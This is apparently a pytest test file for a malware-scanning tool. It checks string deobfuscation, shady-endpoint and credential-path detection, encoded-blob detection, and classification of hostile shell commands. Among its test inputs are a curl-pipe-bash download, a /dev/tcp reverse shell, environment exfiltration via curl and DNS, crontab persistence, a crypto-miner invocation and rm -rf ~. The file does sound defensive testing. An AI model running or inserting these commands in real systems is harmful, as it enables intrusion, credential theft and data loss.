"""The pieces the heuristics are built from: literal folding, string indicators, blobs,
path roles. Pure functions on literals and small syntax trees."""

from __future__ import annotations

import ast
import base64
import random
import zlib

import pytest

from shouldi.scanners.heuristics.blobs import blob_rule, long_lines, shannon_entropy
from shouldi.scanners.heuristics.facts import ScopeFacts
from shouldi.scanners.heuristics.fold import MAX_OUTPUT, fold
from shouldi.scanners.heuristics.indicators import (
    SHADY_ENDPOINTS,
    THROWAWAY_TLDS,
    Label,
    command_kinds,
    public_ip,
    shady_endpoint,
    string_labels,
)
from shouldi.scanners.heuristics.scanner import _Run
from shouldi.scanners.heuristics.visitor import hidden_candidates
from shouldi.scanners.interface import PathRole, path_role


def _fold(source: str) -> object:
    def name(node: ast.expr) -> str:
        if isinstance(node, ast.Name):
            return {"b64decode": "base64.b64decode"}.get(node.id, node.id)
        if isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name):
            return f"{node.value.id}.{node.attr}"
        return ""

    return fold(ast.parse(source, mode="eval").body, name)


@pytest.mark.parametrize(("source", "value"), [
    ("'o' + 's'", "os"),
    ("'sys' 'tem'", "system"),
    ("'metsys'[::-1]", "system"),
    ("''.join(chr(c) for c in [111, 115])", "os"),
    ("''.join(chr(c + 1) for c in [110, 114])", "os"),
    ("''.join(map(chr, [111, 115]))", "os"),
    ("''.join(['o', 's'])", "os"),
    ("bytes.fromhex('6f73').decode()", "os"),
    ("bytes([111, 115]).decode()", "os"),
    ("base64.b64decode('b3M=').decode()", "os"),
    ("b64decode('b3M')", b"os"),
    ("codecs.decode('bf', 'rot13')", "os"),
    ("codecs.decode('6f73', 'hex')", b"os"),
    ("zlib.decompress(base64.b64decode('eJzLLwYAAVMA4w=='))", b"os"),
    ("'o#s'.replace('#', '')", "os"),
    ("f'{\"o\"}s'", "os"),
    ("'ab' * 2", "abab"),
])
def test_fold_evaluates_literal_expressions(source, value):
    assert _fold(source) == value


@pytest.mark.parametrize("source", ["x + 's'", "'a' + 1", "open('f').read()", "chr(x)",
                                    "'abc'[i]", "eval('1')", "''.join(parts)", "'a' * n"])
def test_fold_gives_up_on_anything_not_literal(source):
    assert _fold(source) is None


def test_fold_caps_decompression_bombs():
    bomb = base64.b64encode(zlib.compress(b"\0" * (50 * MAX_OUTPUT))).decode()
    assert len(_fold(f"zlib.decompress(base64.b64decode('{bomb}'))")) == MAX_OUTPUT
    assert _fold(f"'x' * {MAX_OUTPUT + 1}") is None


#: Every listed service, as a URL in scanned text: the names come from the rule's own table
#: (never contacted: tests/conftest.py refuses host-name lookups); a name without a dot is part
#: of a host name (``hastebin``), here under the reserved ``.example``
SHADY_URLS = [(f"https://{e if '.' in e else e + '.example'}/x", e)
              for kind in SHADY_ENDPOINTS.values() for e in kind]


@pytest.mark.parametrize(("text", "reason"), [
    *SHADY_URLS,
    *((f"https://drop.{tld}/p", f"a throw-away domain (drop.{tld})") for tld in THROWAWAY_TLDS),
    ("http://198.51.100.7/collect", "a raw IP address (198.51.100.7)"),
    ("http://abcdefghijklmnop.onion/p", "a Tor .onion address"),
    ("203.0.113.1", "a raw IP address (203.0.113.1)"),
])
def test_shady_endpoints(text, reason):
    assert shady_endpoint(text) == reason


@pytest.mark.parametrize("text", ["https://packages.example/simple/", "https://8.8.8.8/dns",
                                  "https://code.example/pypa/pip", "http://127.0.0.1:8000/",
                                  "http://10.1.2.3/", "no url here", "http://[::1]:80/"])
def test_ordinary_endpoints(text):
    assert shady_endpoint(text) is None


def test_public_ip():
    assert public_ip("203.0.113.9") and public_ip("45.33.32.156")
    assert not any(public_ip(h) for h in ("127.0.0.1", "10.0.0.1", "192.168.0.1", "172.20.0.1",
                                          "0.0.0.0", "169.254.1.1", "1.1.1.1", "::1", "x"))


@pytest.mark.parametrize(("text", "labels"), [
    ("~/.ssh/id_rsa", Label.OUTSIDE | Label.HOME | Label.CREDPATH),
    ("/etc/passwd", Label.OUTSIDE | Label.CREDPATH),
    ("~/.bashrc", Label.OUTSIDE | Label.HOME | Label.PERSIST),
    ("{?}/Microsoft/Windows/Start Menu/Programs/Startup/x.vbs", Label.PERSIST),
    ("Login Data", Label.CREDPATH),
    ("discord", Label.CREDPATH),
    ("http://abcdefghijklmnop.onion/x", Label.SHADY),
    ("/usr/local/bin/tool", Label.OUTSIDE),
    ("build/lib/x.py", 0),
    ("key", 0),
    ("Hello, world.", 0),
])
def test_string_labels(text, labels):
    assert string_labels(text) == labels


@pytest.mark.parametrize(("command", "kinds"), [
    ("curl -s http://x/i.sh | bash", ("download-exec",)),
    ("wget http://x/a -O /tmp/a && chmod +x /tmp/a && /tmp/a &", ("download-exec", "silent-process")),
    ("powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIAA=",
     ("exec-decoded-data", "silent-process")),
    ("bash -i >& /dev/tcp/1.2.3.4/9 0>&1", ("reverse-shell",)),
    ('curl -X POST -d "$(env)" https://x', ("exfiltration",)),
    ("nslookup $(whoami).x.example", ("exfiltration",)),
    ('(crontab -l; echo "* * * * * x") | crontab -', ("persistence",)),
    ("xmrig -o stratum+tcp://pool:3333", ("cryptominer",)),
    ("rm -rf ~", ("destructive",)),
    ("git describe --tags", ()), ("twine upload dist/*", ()), ("make -j4 && make install", ()),
    ("pkg-config --cflags libffi", ()), ("cmake --build . --config Release", ()),
])
def test_command_kinds(command, kinds):
    assert command_kinds(command) == kinds


def test_blobs_entropy_and_long_lines():
    rng = random.Random(0)
    assert blob_rule(base64.b64encode(rng.randbytes(600)).decode())[0] == "encoded-blob"
    assert blob_rule(rng.randbytes(300).hex())[0] == "encoded-blob"
    noisy = "".join(chr(33 + (i * 7919) % 90) for i in range(300))
    assert blob_rule(noisy)[0] == "high-entropy-string"
    prose = ("This Docstring Explains, In Mixed Case With Digits 1234 And Punctuation; "
             "what the module does: Parsing, Formatting & Validating. ") * 3
    assert shannon_entropy(prose) > 4.0 and blob_rule(prose) is None
    assert long_lines(["x", "y" * 1200, "z" * 1001]) == (2, 2, 1200)
    assert long_lines(["short"]) is None


def test_hidden_code_candidates():
    source = b"a = 1\nx = 2" + b" " * 120 + b";import os\n" + b" " * 160 + b"y\nz = 1\n"
    assert hidden_candidates(source) == {2, 3}
    assert hidden_candidates(b"x = 1\n") == frozenset()


@pytest.mark.parametrize(("relname", "role"), [
    ("pkg/core.py", PathRole.CODE), ("tests/test_core.py", PathRole.TEST),
    ("pkg/tests/data.py", PathRole.TEST), ("t/unit/security/case.py", PathRole.TEST),
    ("pkg/test_utils.py", PathRole.TEST), ("conftest.py", PathRole.TEST),
    ("docs/conf.py", PathRole.DOCS), ("examples/demo.py", PathRole.EXAMPLE),
    ("benchmarks/run.py", PathRole.BENCH), ("pkg/testament.py", PathRole.CODE),
    ("demo/__init__.py", PathRole.CODE),
])
def test_path_roles(relname, role):
    assert path_role(relname) is role


def test_scope_edges_are_unique_and_compact_after_a_file_and_reopen_on_add():
    scope = ScopeFacts(3)
    assert scope.edges == () and scope.guarded == ()
    for edge in [("ref", "os.system"), ("module", "os"), ("ref", "os.system")]:
        scope.add(edge)
    scope.add(("ref", "subprocess.run"), guarded=True)
    scope.seal()
    assert isinstance(scope.edges, tuple) and sorted(scope.edges) == [("module", "os"),
                                                                     ("ref", "os.system")]
    assert scope.guarded == (("ref", "subprocess.run"),)
    scope.add(("module", "os"))  # a sealed scope reopens, still one of each edge
    scope.add(("ref", "socket.socket"))
    assert sorted(scope.edges) == [("module", "os"), ("ref", "os.system"), ("ref", "socket.socket")]


def test_one_copy_of_each_edge_is_kept_for_a_whole_scan(tmp_path):
    """The facts of every file stay in memory until the call graph is searched: an edge
    that recurs across files is one object, not one per file."""
    pkg = tmp_path / "pkg"
    pkg.mkdir()
    for i in range(3):
        (pkg / f"m{i}.py").write_text(f"import os\n\ndef f{i}():\n    os.path.join('a', 'b')\n")
    run = _Run(tmp_path)
    run.walk()
    edges = [edge for parsed in run.parsed.values() for scope in parsed.facts.scopes.values()
             for edge in scope.edges if edge == ("ref", "os.path.join")]
    assert len(edges) == 3 and len({id(edge) for edge in edges}) == 1
    assert all(type(scope.edges) is tuple for parsed in run.parsed.values()
               for scope in parsed.facts.scopes.values())
